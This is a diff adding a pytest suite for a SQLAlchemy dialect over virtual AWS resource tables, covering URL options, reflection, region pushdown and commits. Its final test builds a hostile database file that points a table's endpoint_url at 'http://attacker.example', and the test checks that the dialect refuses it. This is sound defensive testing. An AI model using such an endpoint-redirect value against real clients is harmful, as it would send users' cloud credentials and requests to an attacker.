@@ -1,0 +1,186 @@
+"""The ``vtab://`` SQLAlchemy dialect: found through its entry point, every vtab option a query parameter
+(checked at create_engine), the inspector seeing vtab's eponymous tables and their hidden columns, Core
+reading a reflected vtab table with its WHERE pushed down, and transactions through Core."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import apsw
+import pytest
+import sqlalchemy as sa
+from sqlalchemy.engine.url import make_url
+from sqlalchemy.exc import ArgumentError, NoSuchTableError
+
+import vtab.dbapi
+from tests.test_trust_files import hostile
+from tests.test_writes_helpers import write_calls
+from vtab.emulator import Emulator
+from vtab.emulator.seed import Seeded
+from vtab.options import Options
+from vtab.sqlalchemy.dialect import VtabDialect
+from vtab.sqlalchemy.url import connect_arguments
+from vtab.sqlite.install import resource_tables
+
+
+def engine_on(emulator: Emulator, database: str = ":memory:", **query: str) -> sa.Engine:
+    url = make_url(f"vtab:///{database}").update_query_dict(
+        {"endpoint_url": emulator.endpoint_url, "cache_ttl": "0", **query}
+    )
+    return sa.create_engine(url)
+
+
+def test_the_entry_point_gives_vtabs_dialect_and_dbapi() -> None:
+    engine = sa.create_engine("vtab:///:memory:")
+    assert isinstance(engine.dialect, VtabDialect)
+    assert engine.dialect.dbapi is vtab.dbapi
+    assert engine.dialect.paramstyle == "qmark"
+    assert isinstance(engine.pool, sa.pool.SingletonThreadPool)  # one :memory: database, not one per checkout
+    assert isinstance(sa.create_engine("vtab:///inventory.db").pool, sa.pool.QueuePool)
+
+
+def test_the_issues_example_url_becomes_vtab_connect_arguments() -> None:
+    url = make_url("vtab:///inventory.db?regions=us-east-1,eu-west-1&profile=prod")
+    assert connect_arguments(url) == {
+        "filename": "inventory.db",
+        "regions": "us-east-1,eu-west-1",
+        "profile": "prod",
+    }
+    assert connect_arguments(make_url("vtab:////tmp/abs.db"))["filename"] == "/tmp/abs.db"
+    assert connect_arguments(make_url("vtab://"))["filename"] == ":memory:"
+
+
+@pytest.mark.parametrize("name", Options.names())
+def test_every_option_is_a_query_parameter(name: str) -> None:
+    default = getattr(Options(), name)
+    text = ",".join(default) if isinstance(default, tuple) else str(default).lower()
+    if name == "regions":
+        text = "eu-west-1"
+    if default is None:
+        text = "none"
+    arguments = connect_arguments(make_url(f"vtab:///:memory:?{name}={text}"))
+    assert Options().replace(**{name: arguments[name]}) == Options().replace(**{name: text})
+
+
+@pytest.mark.parametrize(
+    ("url", "message"),
+    [
+        ("vtab:///:memory:?region=us-east-1", r"unknown option region; known options: profile, regions"),
+        ("vtab:///:memory:?max_workers=2.5", r"option max_workers='2.5' is not a whole number"),
+        ("vtab:///:memory:?regions=us-east-9", r"region 'us-east-9' is not an AWS region"),
+        ("vtab:///:memory:?profile=a&profile=b", r"gives option profile 2 times \(a, b\); give it once"),
+        ("vtab://me:secret@/x.db", r"no user or password"),
+        ("vtab://somehost/x.db", r"names host 'somehost'.*three slashes"),
+    ],
+)
+def test_a_bad_url_fails_create_engine_naming_the_fix(url: str, message: str) -> None:
+    with pytest.raises(ArgumentError, match=message) as caught:
+        sa.create_engine(url)
+    assert "secret" not in str(caught.value)
+
+
+def test_the_inspector_lists_vtabs_tables_beside_the_files_own(emulator: Emulator, tmp_path: Path) -> None:
+    path = tmp_path / "inventory.db"
+    apsw.Connection(str(path)).execute("CREATE TABLE owners(api_id TEXT, owner TEXT)")
+    engine = engine_on(emulator, str(path))
+    inspector = sa.inspect(engine)
+    names = inspector.get_table_names()
+    assert "owners" in names
+    assert {"eks_clusters", "integration_responses", "vtab_calls", "vtab_types", "vtab_columns"} <= set(names)
+    assert set(resource_tables()) <= set(names)
+    assert names == sorted(names)
+    assert inspector.has_table("eks_clusters") and inspector.has_table("owners")
+    assert not inspector.has_table("eks_clusterz")
+    assert "eks_clusters" not in inspector.get_table_names(schema="temp")
+
+
+def test_get_columns_includes_hidden_columns_marked_and_described(emulator: Emulator) -> None:
+    inspector = sa.inspect(engine_on(emulator))
+    columns = {column["name"]: column for column in inspector.get_columns("integration_responses")}
+    names = list(columns)
+    assert names[:9][-2:] == ["api_id", "region"]  # declared order: properties, region, then hidden ones
+    hidden = {
+        name for name, column in columns.items() if column.get("dialect_options", {}).get("vtab_hidden")
+    }
+    assert {"data__Identifier", "data__PatchDocument", "Identifier", "PatchDocument", "ApiId"} <= hidden
+    assert "api_id" not in hidden and "region" not in hidden
+    assert "Cloud Control's identifier" in str(columns["data__Identifier"]["comment"])
+    assert columns["ApiId"]["comment"] == "hidden: api_id under its property's name"
+    assert columns["api_id"]["comment"] == "The API identifier.; a listing walks its parent for it"
+    table = sa.Table("integration_responses", sa.MetaData(), autoload_with=engine_on(emulator))
+    assert table.c.data__Identifier.dialect_options["vtab"]["hidden"] is True
+    assert table.c.api_id.dialect_options["vtab"]["hidden"] is False
+    assert inspector.get_pk_constraint("eks_clusters")["constrained_columns"] == []
+    assert inspector.get_foreign_keys("eks_clusters") == [] and inspector.get_indexes("eks_clusters") == []
+    with pytest.raises(NoSuchTableError):
+        inspector.get_columns("eks_clusterz")
+
+
+def test_a_files_table_named_like_a_vtab_table_is_reflected_as_the_files(
+    emulator: Emulator, tmp_path: Path
+) -> None:
+    path = tmp_path / "snapshot.db"
+    apsw.Connection(str(path)).execute("CREATE TABLE eks_clusters(name TEXT, owner TEXT)")
+    with pytest.warns(UserWarning, match="hide vtab tables"):
+        columns = sa.inspect(engine_on(emulator, str(path))).get_columns("eks_clusters")
+    assert [(c["name"], c.get("comment")) for c in columns] == [("name", None), ("owner", None)]
+
+
+def test_core_select_on_a_reflected_table_pushes_the_region_down(emulator: Emulator, seeded: Seeded) -> None:
+    engine = engine_on(emulator, regions="us-east-1,eu-west-1")
+    table = sa.Table("integration_responses", sa.MetaData(), autoload_with=engine)
+    with engine.connect() as conn:
+        rows = conn.execute(sa.select(table).where(table.c.region == "us-east-1")).mappings().all()
+        calls = conn.exec_driver_sql("SELECT DISTINCT region FROM vtab_calls").scalars().all()
+    assert len(rows) == len(seeded.responses) == 12
+    assert {row["region"] for row in rows} == {"us-east-1"}
+    assert rows[0]["data__Identifier"] and rows[0]["ApiId"] == rows[0]["api_id"]
+    assert calls == ["us-east-1"]  # eu-west-1, configured, was never listed: the WHERE reached vtab
+
+
+def test_writes_through_core_are_sent_when_the_transaction_commits(emulator: Emulator) -> None:
+    seeded = emulator.seed("us-east-1", websocket_apis=1, integrations=1, responses=0)
+    api, integration = seeded.integrations[0]
+    engine = engine_on(emulator, regions="us-east-1")
+    table = sa.Table("integration_responses", sa.MetaData(), autoload_with=engine)
+    insert = sa.insert(table).values(
+        api_id=api, integration_id=integration, integration_response_key="$default"
+    )
+    with engine.connect() as conn:
+        conn.execute(insert)
+        assert write_calls(emulator) == []
+        conn.rollback()
+    assert write_calls(emulator) == []
+    with engine.begin() as conn:
+        conn.execute(insert)
+    keys = [
+        m["IntegrationResponseKey"] for m in emulator.integration_responses("us-east-1", api, integration)
+    ]
+    assert keys == ["$default"]
+
+
+def test_autocommit_isolation_sends_each_statement_and_allows_returning(emulator: Emulator) -> None:
+    seeded = emulator.seed("us-east-1", websocket_apis=1, integrations=1, responses=0)
+    engine = engine_on(emulator, regions="us-east-1").execution_options(isolation_level="AUTOCOMMIT")
+    with engine.connect() as conn:
+        key = conn.exec_driver_sql(
+            "INSERT INTO integration_responses (api_id, integration_id, integration_response_key) "
+            "VALUES (?, ?, '$default') RETURNING integration_response_key",
+            seeded.integrations[0],
+        ).scalar()
+    assert key == "$default"
+    assert len(emulator.integration_responses("us-east-1", *seeded.integrations[0])) == 1
+
+
+def test_a_file_opened_through_a_url_still_may_not_choose_credentials(
+    emulator: Emulator, tmp_path: Path
+) -> None:
+    path = hostile(
+        tmp_path / "sent-to-you.db",
+        "CREATE TABLE notes(x)",
+        {"lg": "logs_log_groups(endpoint_url='http://attacker.example')"},
+    )
+    engine = engine_on(emulator, str(path))
+    with engine.connect() as conn, pytest.raises(sa.exc.ProgrammingError, match="may not choose credentials"):
+        conn.exec_driver_sql("SELECT * FROM lg WHERE region = 'us-east-1'")
+    assert emulator.calls == []
